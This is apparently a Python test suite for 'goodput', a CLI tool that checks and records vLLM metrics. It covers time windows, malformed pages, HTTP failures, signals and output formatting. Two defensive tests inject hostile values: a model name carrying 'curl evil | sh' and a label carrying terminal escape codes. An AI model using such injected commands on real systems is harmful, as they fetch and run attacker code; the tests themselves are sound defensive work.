#!/usr/bin/env python3
"""goodput check, record, query and signals from outside: sources, windows, bad input, output."""

import json
import os
import pty
import re
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import time

import pages
from program import PROGRAM, CliTest, goodput, main

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sim"))
from simlib import wait_for  # noqa: E402

HEALTHY = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../demo/healthy")


class Case(CliTest):
    def setUp(self):
        self.folder = tempfile.mkdtemp()
        self.addCleanup(subprocess.run, ["rm", "-rf", self.folder], check=True)

    def path(self, name, text=None):
        path = os.path.join(self.folder, name)
        if text is not None:
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
        return path

    def document(self, *args, status=None, **kwargs):
        result = goodput("check", *args, "--json", **kwargs)
        self.assertIn(result.status, (0, 1, 2, 3) if status is None else (status,), result.err)
        document = json.loads(result.out)
        self.assertEqual(document["schema"], "goodput.check/1")
        self.assertEqual(document["verdict"]["exit_status"], result.status)
        return document

    def reading(self, document, signal_id, scope="fleet"):
        for one in document["scopes"]:
            if one["scope"] == scope:
                return one["readings"][signal_id]
        self.fail(f"no scope {scope}")


class Recordings(Case):
    def setUp(self):
        super().setUp()
        self.recording = pages.recording(self.path("rec"), moments=4, pods=("pod-a", "pod-b"))

    def test_whole(self):
        d = self.document(self.recording)
        self.assertEqual((d["window"]["kind"], d["window"]["seconds"], d["moments"]["all"]), ("whole", 90, 4))
        self.assertEqual([t["engine"] for t in d["targets"]], ["vllm", "vllm"])
        finished = self.reading(d, "finished")
        self.assertEqual((finished["kind"], finished["value"], finished["targets"]), ("value", 240, [2, 2]))

    def test_windows(self):
        for flags, seconds, kind in ((("--window", "t1..t2"), 30, "pair"), (("--window", "t1..last"), 60, "whole"), (("--window", "45s"), 45, "pair"),
                                     (("--at", "t2"), 0, "levels"), (("--since", "30s"), 30, "pair"), (("--window", "first..1768446030"), 30, "pair"),
                                     (("--at", "t3", "--since", "t2"), 30, "pair"), (("--at", "2026-01-15T03:00:30Z"), 0, "levels")):
            d = self.document(self.recording, *flags)
            self.assertEqual((d["window"]["seconds"], d["window"]["kind"]), (seconds, kind), flags)

    def test_groups_of_moments(self):
        table = os.path.join(self.recording, "scrapes.tsv")
        with open(table, encoding="utf-8") as f:
            text = f.read()
        for i, name in enumerate(("before.1", "before.2", "after.1", "after.2")):
            text = re.sub(rf"^t{i}\t", f"{name}\t", text, flags=re.M)
        self.path("rec/scrapes.tsv", text)
        d = self.document(self.recording, "--window", "after", "--against", "before")
        self.assertEqual((d["window"]["seconds"], d["reference"]["seconds"]), (30, 30))
        self.assertEqual(self.reading(d, "finished")["change"], 0)

    def test_levels_only_know_no_differences(self):
        d = self.document(self.recording, "--at", "t0")
        self.assertEqual(self.reading(d, "finished")["kind"], "unknown")
        self.assertEqual(self.reading(d, "running")["value"], 8)

    def test_wrong_windows(self):
        self.failed(goodput("check", self.recording, "--window", "t9"), 64, "t9", "t0, t1, t2, t3")
        self.failed(goodput("check", self.recording, "--window", "t2..t1"), 64, "ends before it begins")
        self.failed(goodput("check", self.recording, "--at", "yesterday-ish"), 64, "yesterday-ish")

    def test_broken_recordings(self):
        self.failed(goodput("check", self.path("nothing")), 65, "no such file or folder")
        os.mkdir(self.path("empty"))
        self.failed(goodput("check", self.path("empty")), 65, "scrapes.tsv")
        os.unlink(os.path.join(self.recording, "pod-b.t1.prom"))
        self.failed(goodput("check", self.recording), 65, "pod-b.t1.prom")
        self.failed(goodput("check", self.recording, self.recording), 64, "one at a time")

    def test_a_silent_target(self):
        recording = pages.recording(self.path("gap"), pods=("pod-a", "pod-b"), down=(("pod-b", 1), ("pod-b", 2)))
        d = self.document(recording, status=3)
        self.assertEqual(d["targets"][1]["outcome"], "no-answer")
        self.assertEqual(self.reading(d, "running")["kind"], "at_least")
        text = goodput("check", recording).out
        self.assertIn("pod-b", text)

    def test_fail_on(self):
        recording = pages.recording(self.path("gap"), pods=("pod-a", "pod-b"), down=(("pod-b", 1), ("pod-b", 2)))
        for choice, status in (("unknown", 3), ("warning", 0), ("critical", 0), ("never", 0)):
            self.assertEqual(goodput("check", recording, "--fail-on", choice).status, status, choice)

    def test_text_fits(self):
        recording = pages.recording(self.path("many"), pods=[f"vllm-decode-{i:02d}.example.internal:8000" for i in range(64)])
        for flags in ((), ("--all",), ("--markdown",)):
            result = goodput("check", recording, *flags)
            self.assertEqual(result.err, "")
            if "--markdown" not in flags:
                for line in result.out.splitlines():
                    if not line.lstrip().startswith("$ "):
                        self.assertLessEqual(len(line), 80, line)
        self.assertLessEqual(len(goodput("check", recording).out.splitlines()), 45)

    def test_ascii(self):
        for flags in ((), ("--all",)):
            out = goodput("check", self.recording, *flags, env={"LC_ALL": "C"}).out
            self.assertTrue(out.isascii(), out)


class Pages(Case):
    def test_page(self):
        d = self.document(self.path("a.prom", pages.vllm_page(100)))
        self.assertEqual(d["window"]["kind"], "levels")
        self.assertEqual(self.reading(d, "running")["value"], 4)
        rate = self.reading(d, "requests_per_s")
        self.assertEqual((rate["kind"], rate["reason"]), ("unknown", "one-scrape"))
        self.assertEqual(d["since_start"]["window"]["kind"], "since-start")
        self.assertTrue(d["since_start"]["start_known"])
        finished = d["since_start"]["scopes"][0]["readings"]["finished"]
        self.assertEqual(finished["value"], 4000)
        self.assertIn("since start", goodput("check", self.path("a.prom")).out)

    def test_standard_input(self):
        result = goodput("check", "-", "--json", stdin=pages.vllm_page(7).encode())
        self.assertEqual(json.loads(result.out)["targets"][0]["engine"], "vllm")

    def test_several_pages_are_a_fleet(self):
        d = self.document(self.path("a.prom", pages.vllm_page(1)), self.path("b.prom", pages.vllm_page(2)))
        self.assertEqual(self.reading(d, "running")["value"], 8)

    def test_odd_pages(self):
        odd = {"empty.prom": "", "comments.prom": "# nothing\n", "page.prom": "<!doctype html><html><body>login</body></html>", "json.txt": '{"a": 1}\n',
               "broken.prom": pages.vllm_page(3) + "this is { not a sample\n", "other.prom": "go_goroutines 7\n"}
        for name, text in odd.items():
            result = goodput("check", self.path(name, text))
            self.no_crash(result)
            self.assertIn(result.status, (1, 2, 3), (name, result.out, result.err))
            self.assertNotEqual(result.out, "", name)
        broken = self.document(self.path("broken.prom"))
        self.assertEqual((broken["targets"][0]["outcome"], broken["targets"][0]["dropped_lines"]), ("partial", 1))

    def test_hostile_names_do_not_reach_a_command(self):
        folder = self.path("rec")
        shutil.copytree(os.path.join(os.path.dirname(__file__), "../../demo/trouble"), folder)
        for name in os.listdir(folder):
            with open(os.path.join(folder, name), encoding="utf-8") as f:
                self.path(f"rec/{name}", f.read().replace("acme/chat-14b", "m; curl evil | sh"))
        d = self.document(folder)
        commands = [a["command"] for f in d["findings"] for a in f["actions"] if "command" in a]
        self.assertTrue(any("vllm serve MODEL " in c for c in commands), commands)
        self.assertFalse([c for c in commands if "evil" in c])

    def test_size_limit(self):
        big = self.path("big.prom", pages.vllm_page(100) + "# " + "x" * 100000 + "\n")
        self.assertEqual(goodput("check", big).status, 0)
        result = goodput("check", big, "--max-body", "64KiB")
        self.assertEqual(result.status, 65)
        self.assertIn("above the limit of 65536", result.err)
        self.assertIn("--max-body", result.err)

    def test_many_series_of_one_gauge_are_all_summed(self):
        page = "# TYPE vllm:num_requests_running gauge\n" + "".join(
            f'vllm:num_requests_running{{engine="0",model_name="m{i}"}} 1\n' for i in range(1000))
        d = self.document(self.path("many.prom", page))
        self.assertEqual(self.reading(d, "running", "many")["value"], 1000)

    def test_history_is_refused(self):
        page = self.path("a.prom", pages.vllm_page(1))
        self.failed(goodput("check", page, "--window", "5m"), 64, "one scrape")
        self.failed(goodput("check", page, "127.0.0.1:1"), 64, "one kind at a time")

    def test_hostile_labels_do_not_reach_the_terminal(self):
        page = pages.vllm_page(1).replace("acme/chat", "\x1b]0;owned\x07\x1b[31m")
        for flags in ((), ("--all",), ("--markdown",)):
            out = goodput("check", self.path("x.prom", page), *flags).out
            self.assertNotIn("\x1b", out)
            self.assertNotIn("\x07", out)


class Live(Case):
    def test_two_scrapes(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            started = time.monotonic()
            d = self.document(server.address, "--window", "1s")
            self.assertGreater(time.monotonic() - started, 1)
            self.assertEqual(d["moments"]["all"], 2)
            self.assertEqual(self.reading(d, "finished")["kind"], "value")
            self.assertLessEqual(server.count, 4)  # two scrapes, and two more to see whether several processes answer

    def test_several_processes_in_turn(self):
        def answer(path, count):
            return 200, "text/plain", pages.vllm_page(100 + count, start=1768440000.0 + count % 2 * 1000)

        with pages.Server(answer) as server:
            d = self.document(server.address, "--window", "1s")
            self.assertEqual(d["targets"][0]["turns"], 2)
            self.assertIn("processes-take-turns", [f["id"] for f in d["findings"]])

    def test_dead_port(self):
        for args in ((), ("--json",)):
            started = time.monotonic()
            result = goodput("check", "127.0.0.1:1", *args)
            self.assertLess(time.monotonic() - started, 5)
            self.assertEqual(result.status, 3)
            self.assertIn("refused", result.out)

    def test_no_such_host(self):
        self.assertEqual(goodput("check", "no-such-host.invalid:8000", "--timeout", "2s").status, 3)

    def test_answers_of_other_kinds(self):
        for status, kind, body, outcome in ((200, "text/html", "<html>hello</html>", "html"), (401, "text/plain", "no", "unauthorized"),
                                            (404, "text/plain", "no", "not-found"), (503, "text/plain", "no", "http-status"), (200, "text/plain", "", "empty")):
            with pages.Server(lambda path, count, answer=(status, kind, body): answer) as server:
                d = self.document(server.address, "--window", "1s", status=3)
                self.assertEqual(d["targets"][0]["outcome"], outcome)
                self.assertIn("advice", d["targets"][0])

    def test_commands_know_where_the_page_is(self):
        with pages.Server(lambda path, count: (401, "text/plain", "no")) as server:
            for path in ("/metrics", "/prometheus/metrics", "/stats"):
                d = self.document(f"http://{server.address}{path}", "--window", "1s", status=3)
                partial = next(f for f in d["findings"] if f["id"] == "scrape-partial")
                self.assertTrue(partial["actions"][0]["command"].endswith(f" http://{server.address}{path}"), partial["actions"][0])

    def test_answers_of_one_kind_are_grouped(self):
        with pages.Server(lambda path, count: (int(path[1:4]), "text/plain", "no")) as server:
            targets = [f"http://{server.address}/{status}/{i}" for status in (500, 502) for i in range(2)]
            text = " ".join(goodput("check", *targets, "--window", "1s").out.split())
            self.assertIn("500/1: HTTP 500", text)
            self.assertIn("502/1: HTTP 502", text)

    def test_timeout(self):
        with pages.Server(pages.slow) as server:
            d = self.document(server.address, "--window", "1s", "--timeout", "300ms", status=3)
            self.assertEqual(d["targets"][0]["outcome"], "no-answer")

    def test_one_of_two(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            d = self.document(server.address, "127.0.0.1:1", "--window", "1s")
            self.assertIn(d["verdict"]["exit_status"], (2, 3))
            self.assertEqual(self.reading(d, "running")["kind"], "at_least")

    def test_targets_file(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            d = self.document("--targets", self.path("fleet", f"# fleet\n{server.address}  # the first\n\n"), "--window", "1s")
            self.assertEqual(d["targets"][0]["name"], server.address)
        self.failed(goodput("check", "--targets", self.path("bad", "ok:1\nftp://x\n")), 65, "bad:2", "ftp")
        self.failed(goodput("check", "--targets", self.path("none", "# nobody\n")), 64, "none")
        self.failed(goodput("check", "--targets", self.path("absent")), 65, "absent")

    def test_config(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            config = ("scrape_configs:\n- job_name: llm\n  static_configs:\n  - targets: [%s]\n    labels: {zone: a}\n"
                      "- job_name: k8s\n  kubernetes_sd_configs: [{role: pod}]\n  relabel_configs: []\n  scrape_interval: 15s\n" % server.address)
            result = goodput("check", "--config", self.path("goodput.yaml", config), "--json", "--window", "1s")
            self.assertIn("k8s", result.err)
            self.assertNotIn("scrape_interval", result.err)
            self.assertEqual(json.loads(result.out)["targets"][0]["name"], server.address)
        self.failed(goodput("check", "--config", self.path("bad.yaml", "scrape_configs: [\n")), 65, "bad.yaml")
        for labels in ("[a]", "{a: [b]}", "text", "{%s}" % ", ".join(f"l{i}: x" for i in range(70))):
            text = "scrape_configs:\n- job_name: a\n  static_configs:\n  - targets: [x:1]\n    labels: %s\n" % labels
            self.failed(goodput("check", "--config", self.path("bad.yaml", text)), 65, "bad.yaml:5", "labels")
        self.failed(goodput("check", "x:1", "--catalog", self.path("cat.yaml", "signals:\n- id: a\n  expr: nosuch(\n")), 65, "cat.yaml:3")
        self.failed(goodput("check", "x:1", "--pools", self.path("pools.yaml", "pools:\n- nam: x\n")), 65, "pools.yaml:2")

    def test_token(self):
        seen = []

        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(count))) as server:
            handler = server.server.RequestHandlerClass
            original = handler.do_GET

            def spy(self):
                seen.append(self.headers.get("Authorization"))
                original(self)

            handler.do_GET = spy
            goodput("check", server.address, "--window", "1s", "--bearer-token-file", self.path("token", "s3cret\n"))
        self.assertEqual(set(seen), {"Bearer s3cret"})
        self.failed(goodput("check", "x:1", "--bearer-token-file", self.path("empty", "\n")), 65, "no token")

    def test_interrupt(self):
        for number in (signal.SIGINT, signal.SIGTERM):
            with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(count))) as server:
                run = subprocess.Popen([PROGRAM, "check", server.address, "--window", "20s"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
                self.assertTrue(wait_for(lambda: server.count >= 1, 60))
                time.sleep(3)  # the page has been sent; it has to be read too
                run.send_signal(number)
                out, err = run.communicate(timeout=60)
                self.assertEqual((run.returncode, out), (130, b""), err)
                self.assertIn(b"interrupted after 1 of 2 scrapes", err)

    def test_interrupt_while_waiting_for_an_answer(self):
        with pages.Server(pages.slow) as server:
            run = subprocess.Popen([PROGRAM, "check", server.address], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            self.assertTrue(wait_for(lambda: server.count >= 1, 60))
            started = time.monotonic()
            run.send_signal(signal.SIGINT)
            _, err = run.communicate(timeout=60)
            self.assertEqual(run.returncode, 130, err)
            self.assertLess(time.monotonic() - started, 4)  # the answer would take 5


class Output(Case):
    def setUp(self):
        super().setUp()
        self.recording = pages.recording(self.path("rec"))

    def terminal(self, *args, env=None):
        """What a terminal of 80 columns gets."""
        environment = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
        environment.update({"TERM": "xterm", "LC_ALL": "C.UTF-8"}, **(env or {}))
        master, slave = pty.openpty()
        run = subprocess.Popen([PROGRAM, *args], stdout=slave, stderr=subprocess.DEVNULL, env=environment)
        os.close(slave)
        out = b""
        while True:
            ready, _, _ = select.select([master], [], [], 20)
            try:
                chunk = os.read(master, 65536) if ready else b""
            except OSError:
                chunk = b""
            if not chunk:
                break
            out += chunk
        os.close(master)
        run.wait(timeout=60)
        return out

    def test_colour(self):
        self.assertNotIn("\x1b", goodput("check", self.recording).out)
        self.assertIn("\x1b[", goodput("check", self.recording, "--color", "always").out)
        self.assertIn(b"\x1b[", self.terminal("check", self.recording))
        self.assertNotIn(b"\x1b", self.terminal("check", self.recording, env={"NO_COLOR": "1"}))
        self.assertIn(b"\x1b[", self.terminal("check", self.recording, env={"NO_COLOR": ""}))
        self.assertIn(b"\x1b[", self.terminal("check", self.recording, "--color", "always", env={"NO_COLOR": "1"}))
        self.assertNotIn(b"\x1b", self.terminal("check", self.recording, env={"TERM": "dumb"}))
        self.assertNotIn(b"\x1b", self.terminal("check", self.recording, "--color=never"))

    def test_closed_pipe_is_quiet(self):
        for flags in (["--all"], ["--json"]):
            run = subprocess.Popen([PROGRAM, "check", self.recording, *flags], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            run.stdout.close()
            self.assertEqual(run.stderr.read(), b"")
            run.stderr.close()
            self.assertIn(run.wait(timeout=60), (0, 1, 2, 3))

    def test_full_disk_is_told(self):
        with open("/dev/full", "wb") as full:
            run = subprocess.run([PROGRAM, "check", self.recording], stdout=full, stderr=subprocess.PIPE, check=False)
        self.assertEqual(run.returncode, 70)
        self.assertIn(b"cannot write", run.stderr)

    def test_markdown(self):
        out = goodput("check", self.recording, "--markdown").out
        self.assertTrue(out.startswith("# goodput: "), out)
        self.assertIn("| latency | TTFT P99 |", out)


class Record(Case):
    def test_record_and_replay(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            folder = self.path("rec")
            result = goodput("record", folder, server.address, "--every", "300ms", "--for", "700ms")
            self.assertEqual((result.status, result.out), (0, ""), result.err)
            d = self.document(folder)
            self.assertEqual(d["moments"]["all"], 3)
            with open(os.path.join(folder, "scrapes.tsv"), encoding="utf-8") as f:
                self.assertEqual(len(f.read().splitlines()), 4)
            for name in os.listdir(folder):
                with open(os.path.join(folder, name), encoding="utf-8") as f:
                    self.assertNotIn("acme/chat", f.read())
            self.assertIn("replaced: 1 model names; labels left as they are: ", result.err)
            self.assertIn("finished_reason", result.err)

    def test_targets_that_differ_by_path(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            folder = self.path("paths")
            targets = [f"http://{server.address}/{name}/metrics" for name in ("chat", "embed")]
            recorded = goodput("record", folder, *targets, "--every", "1s", "--for", "1s")
            self.assertEqual(recorded.status, 0, recorded.err)
            d = self.document(folder)
            self.assertEqual(len(d["targets"]), 2)
            self.assertNotIn("embed", json.dumps(d))

    def test_verbose(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
            result = goodput("record", self.path("rec"), server.address, "--for", "0", "--verbose")
            self.assertRegex(result.err, r"debug: 127.0.0.1:\d+: ok, HTTP 200, \d+ bytes in ")
            self.assertNotIn("debug:", goodput("check", self.path("rec")).err)
            self.assertRegex(goodput("check", self.path("rec"), "-v").err, r"debug: 1 targets, 1 moments, \d+ series")

    def test_no_redact(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(5))) as server:
            folder = self.path("rec")
            result = goodput("record", folder, server.address, "--for", "0", "--no-redact")
            self.assertEqual(result.status, 0)
            self.assertIn("nothing replaced", result.err)
            pages_there = [n for n in os.listdir(folder) if n.endswith(".prom")]
            self.assertEqual(len(pages_there), 1)
            with open(os.path.join(folder, pages_there[0]), encoding="utf-8") as f:
                self.assertEqual(f.read(), pages.vllm_page(5))

    def test_usage(self):
        self.failed(goodput("record", self.path("x")), 64, "targets")
        self.assertEqual(goodput("record", self.path("rec"), "127.0.0.1:1", "--for", "0").status, 69)
        self.failed(goodput("record", self.path("y"), pages.recording(self.path("r"))), 64, "only live")

    def test_interrupt_keeps_what_was_saved(self):
        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(count))) as server:
            run = subprocess.Popen([PROGRAM, "record", self.path("rec"), server.address, "--every", "200ms", "--for", "1h"], stderr=subprocess.PIPE)
            self.assertTrue(wait_for(lambda: server.count >= 4, 60))  # the fourth is asked for when three are saved
            run.send_signal(signal.SIGINT)
            _, err = run.communicate(timeout=60)
            self.assertEqual(run.returncode, 130, err)
            self.assertGreaterEqual(self.document(self.path("rec"))["moments"]["all"], 2)


class Query(Case):
    def setUp(self):
        super().setUp()
        self.recording = pages.recording(self.path("rec"), moments=4, pods=("pod-a", "pod-b"))

    def test_instant(self):
        result = goodput("query", "sum(vllm:num_requests_running)", self.recording)
        self.assertEqual((result.status, result.out.split()[-1]), (0, "8"))

    def test_envelope(self):
        d = json.loads(goodput("query", "vllm:num_requests_running", self.recording, "--json", "--at", "t1").out)
        self.assertEqual((d["status"], d["data"]["resultType"], len(d["data"]["result"])), ("success", "vector", 2))
        self.assertEqual(d["data"]["result"][0]["value"], [1768446030, "4"])
        self.assertEqual(d["data"]["result"][0]["metric"]["instance"], "pod-a")
        d = json.loads(goodput("query", "1 + 1", self.recording, "--json").out)
        self.assertEqual((d["data"]["resultType"], d["data"]["result"][1]), ("scalar", "2"))

    def test_range(self):
        d = json.loads(goodput("query", "sum(vllm:prompt_tokens_total)", self.recording, "--json", "--since", "1m", "--step", "30s").out)
        self.assertEqual([v for _, v in d["data"]["result"][0]["values"]], ["1818000", "1836000", "1854000"])

    def test_errors(self):
        self.failed(goodput("query", "sum(", self.recording), 65, "^")
        result = goodput("query", "sum(", self.recording, "--json")
        self.assertEqual((result.status, json.loads(result.out)["status"]), (65, "error"))
        self.assertEqual(goodput("query", "nosuch", self.recording).out, "")
        self.failed(goodput("query", "up"), 64, "on what")
        self.failed(goodput("query", "up", "--prometheus", "http://127.0.0.1:1"), 69, "127.0.0.1:1")


class Signals(Case):
    def test_list_and_explain(self):
        text = goodput("signals").out
        self.assertIn("ttft_p99", text)
        self.assertTrue(all(len(line) <= 80 for line in text.splitlines()))
        self.assertNotIn("kv_usage", goodput("signals", "--group", "latency").out)
        text = goodput("signals", "ttft_p99").out
        self.assertIn("quantile(0.99, ttft)", text)
        d = json.loads(goodput("signals", "ttft_p99", "--json").out)
        self.assertEqual((len(d["signals"]), d["signals"][0]["unit"]), (1, "s"))

    def test_success_policy_of_a_pool(self):
        mine = self.path("pools.yaml", "pools:\n- {name: strict, match: {model: 'acme/.*'}, success: stop}\n")
        run = goodput("check", HEALTHY, "--catalog", mine)
        self.assertIn("[success is stop]", run.out)
        d = json.loads(goodput("check", HEALTHY, "--catalog", mine, "--json").out)
        fleet = d["scopes"][0]["readings"]
        self.assertLess(fleet["policy_success_rate"]["value"], fleet["success_rate"]["value"])
        self.assertAlmostEqual(fleet["policy_success_rate"]["value"], fleet["stop_rate"]["value"])

    def test_conditions_in_promql(self):
        mine = self.path("mine.yaml", "signals:\n- {id: mine, expr: 'count(finished{finished_reason=\"sto[pq]\"}) + count(finished{finished_reason=\"a\\.b\"})'}\n")
        text = goodput("signals", "--promql", "mine", "--catalog", mine, self.path("a.prom", pages.vllm_page(1))).out
        self.assertIn('{finished_reason=~"sto[pq]"}', text)
        self.assertIn('{finished_reason="a.b"}', text)

    def test_findings_as_json(self):
        d = json.loads(goodput("signals", "kv-thrash", "--json").out)
        self.assertEqual((d["signals"], [f["id"] for f in d["findings"]]), ([], ["kv-thrash"]))
        self.assertIn("kv-pressure", d["findings"][0]["suppresses"])
        self.assertNotIn("findings", json.loads(goodput("signals", "ttft_p99", "--json").out))

    def test_bound(self):
        page = self.path("a.prom", pages.vllm_page(1))
        text = goodput("signals", "--promql", "ttft_p99", page).out
        self.assertIn("vllm:time_to_first_token_seconds_bucket[5m]", text)
        text = goodput("signals", "--coverage", page).out
        self.assertIn("vllm:kv_cache_usage_perc", text)
        d = json.loads(goodput("signals", "--coverage", page, "--json").out)
        self.assertEqual(d["targets"][0]["target"], "a")


if __name__ == "__main__":
    main()
